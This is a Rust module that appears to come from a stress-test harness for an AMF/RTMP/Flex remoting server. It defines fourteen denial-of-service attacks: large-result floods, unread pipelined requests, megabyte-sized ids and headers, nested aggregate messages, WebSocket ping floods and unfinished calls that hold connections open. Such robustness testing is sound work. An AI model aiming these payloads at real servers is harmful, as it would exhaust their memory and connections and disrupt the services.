//! Attacks that nobody reported: other ways from little to much.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until};

use super::{Attack, attack, crowd, numbers, numbers_body, packet_amf3};
use crate::target::{Encoding, Target};
use crate::wire;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        attack!("256 results of 4 MB in one packet", large_results),
        attack!("128 results of 4 MB each, an RTMP client reads", large_results_read),
        attack!("12 HTTP clients that do not read 4 MB", unread_answers),
        attack!("20,000 pipelined requests, not read", pipelined),
        attack!("DescribeService for 256 messages", descriptions),
        attack!("64 headers of crowded strings", headers),
        attack!("Flex messages with ids of 1 MB", flex_ids),
        attack!("aggregates of empty messages", aggregates),
        attack!("a tunnel that never fetches replies", hoarding_tunnel),
        attack!("names of 60,000 bytes to no method", long_names),
        attack!("errors about arguments of 1 MB", wrong_arguments),
        attack!("connect with 60 kB, refused or not", large_connects),
        attack!("pings of a WebSocket, not read", websocket_pings),
        attack!("30 calls of 1 MiB, unfinished", unfinished_calls),
    ]
}

fn soon(seconds: f64) -> Instant {
    Instant::now() + Duration::from_secs_f64(seconds)
}

async fn large_results(target: Target) {
    let body = numbers_body(&[4_000_000]);
    target.post(&wire::packet(3, &vec![("siege.big", "/1", &body[..]); 256])).await;
}

async fn large_results_read(target: Target) {
    let call = wire::command("siege.big", 2.0, &numbers(&[4_000_000]));
    target.call_rtmp(Encoding::Amf3, &call.repeat(128)).await;
}

async fn unread_answers(target: Target) {
    let end = soon(3.0);
    let request =
        wire::post("/gateway", &wire::packet(3, &[("siege.big", "/1", &numbers_body(&[4_000_000]))]));
    let mut connections = Vec::new();
    for _ in 0..12 {
        let mut wire = target.open(target.http).await;
        wire.write(&request).await;
        connections.push(wire);
    }
    sleep_until(end).await;
}

async fn pipelined(target: Target) {
    let end = soon(2.0);
    let body = wire::amf3_body(&wire::string(&[b'x'; 1_000]));
    let request = wire::post("/gateway", &wire::packet(3, &[("siege.echo", "/1", &body)]));
    let mut wire = target.open(target.http).await;
    wire.write_until(&request.repeat(20_000), end).await;
    sleep_until(end).await;
}

async fn descriptions(target: Target) {
    let body = numbers_body(&[]);
    let header: [(&str, &[u8]); 64] = [("DescribeService", b"\x05"); 64];
    target.post(&wire::packet_with_headers(0, &header, &vec![("siege.echo", "/1", &body[..]); 256])).await;
    target.post(&wire::packet_with_headers(3, &header, &vec![("siege.echo", "/1", &body[..]); 256])).await;
}

async fn headers(target: Target) {
    // 64 headers of 30 kB each. They have tables of their own.
    let value = [&[0x11][..], &crowd(0, 1_000, 18, 6_000)].concat();
    let names: Vec<_> = (0..63).map(|index| format!("header {index}")).collect();
    let mut headers: Vec<_> = names.iter().map(|name| (name.as_str(), value.as_slice())).collect();
    headers.push(("Credentials", &value));
    let body = numbers_body(&[0]);
    target.post(&wire::packet_with_headers(3, &headers, &vec![("siege.wait", "/1", &body[..]); 256])).await;
}

async fn flex_ids(target: Target) {
    let members: [&[u8]; 5] = [b"clientId", b"destination", b"messageId", b"operation", b"body"];
    let id = wire::string(&vec![b'i'; 1_000_000]);
    for (alias, operation) in [
        (&b"flex.messaging.messages.CommandMessage"[..], &[0x04, 0x05][..]),
        (b"flex.messaging.messages.CommandMessage", &[0x04, 0x00]),
        (b"flex.messaging.messages.RemotingMessage", b"\x06\x0Bechos"),
    ] {
        // The id is the first string after the alias and the names, so it has the place 6.
        let again = wire::string_reference(6);
        let value = [&wire::object(alias, &members)[..], &id, &again, &again, operation, &[0x01]].concat();
        let packet = packet_amf3("null", &value);
        tokio::join!(target.post(&packet), target.post(&packet), target.post(&packet), target.post(&packet));
    }
}

async fn aggregates(target: Target) {
    // Messages of audio without a byte: type, length, time, stream, and the length of all that again.
    let part = b"\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\x0B";
    let payload = part.repeat((1 << 20) / part.len());
    let mut commands = wire::message(22, &payload).repeat(4);
    // Aggregates in an aggregate.
    let inner = [&b"\x16\0\0\x96\0\0\0\0\0\0\0"[..], &part.repeat(10), b"\0\0\0\xA1"].concat();
    commands.extend(wire::message(22, &inner.repeat((1 << 20) / inner.len())));
    target.call_rtmp(Encoding::Amf0, &commands).await;
}

async fn hoarding_tunnel(target: Target) {
    let end = soon(3.0);
    let Some(id) = target.open_tunnel().await else { return };
    let mut wire = target.open_reader(target.http).await;
    let connect = [wire::handshake(), wire::connect(3.0), wire::CHUNK_SIZE.to_vec()].concat();
    let calls = wire::command("siege.big", 2.0, &numbers(&[4_000_000])).repeat(256);
    for (number, body) in [connect, Vec::new(), calls].iter().enumerate() {
        let operation = if body.is_empty() { "idle" } else { "send" };
        let body = if body.is_empty() { &[0][..] } else { body };
        wire.write(&wire::post(&format!("/{operation}/{id}/{number}"), body)).await;
        wire.read_answer().await;
    }
    sleep_until(end).await;
}

async fn long_names(target: Target) {
    let name = format!("siege.{}", "n".repeat(60_000));
    let calls = wire::command(&name, 2.0, &[]).repeat(200);
    let unread = async {
        let end = soon(2.0);
        let mut wire = target.rtmp(Encoding::Amf0).await;
        wire.write_until(&calls, end).await;
        sleep_until(end).await;
    };
    tokio::join!(target.call_rtmp(Encoding::Amf0, &calls), unread);
    let body = numbers_body(&[]);
    target.post(&wire::packet(3, &vec![(&name[..], "/1", &body[..]); 30])).await;
}

async fn wrong_arguments(target: Target) {
    let text = wire::string(&vec![b'x'; 1_000_000]);
    let list = crowd(0, 3_600, 18, 62_000);
    for value in [text, list] {
        for method in ["siege.wait", "siege.echoText", "siege.big"] {
            target.post(&packet_amf3(method, &value)).await;
        }
        target.call_rtmp(Encoding::Amf3, &wire::command_amf3("siege.wait", 2.0, &value)).await;
    }
}

async fn large_connects(target: Target) {
    // An application's name that is too long, and a URL that may be long.
    let bytes = [[("app", 60_000), ("tcUrl", 1)], [("app", 1), ("tcUrl", 60_000)]].map(|members| {
        let members =
            members.map(|(name, len)| [&wire::text(name)[..], &[2], &wire::text(&"a".repeat(len))].concat());
        let object = [&[3][..], &members.concat(), &[0, 0, 9]].concat();
        let payload = [&[2][..], &wire::text("connect"), &wire::number(1.0), &object].concat();
        [wire::handshake(), wire::CHUNK_SIZE.to_vec(), wire::message(20, &payload)].concat()
    });
    let end = soon(2.0);
    let connects: JoinSet<_> = (0..150)
        .map(|index| {
            let (target, bytes) = (target.clone(), bytes[index % 2].clone());
            async move {
                let mut wire = target.open(target.rtmp).await;
                wire.write(&bytes).await;
                wire
            }
        })
        .collect();
    let _open = connects.join_all().await;
    sleep_until(end).await;
}

async fn websocket_pings(target: Target) {
    let end = soon(2.0);
    let mut wire = target.open(target.http).await;
    let head = b"GET /rtmp HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
        Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    wire.write(head).await;
    wire.read_until(b"\r\n\r\n").await;
    // 125 bytes, masked.
    let ping = [&[0x89, 0xFD, 0, 0, 0, 0][..], &[b'p'; 125]].concat();
    wire.write_until(&ping.repeat(100_000), end).await;
    sleep_until(end).await;
}

async fn unfinished_calls(target: Target) {
    // A message of 1 MiB for a command, without its last byte, from each of 30 clients that are connected.
    let end = soon(4.0);
    let header = wire::header(3, 20, 1 << 20);
    let bytes = [header, vec![2; (1 << 20) - 1]].concat();
    let calls: JoinSet<_> = (0..30)
        .map(|_| {
            let (target, bytes) = (target.clone(), bytes.clone());
            async move {
                let mut wire = target.rtmp(Encoding::Amf0).await;
                wire.write_until(&bytes, end).await;
                wire
            }
        })
        .collect();
    let _open = calls.join_all().await;
    sleep_until(end).await;
}
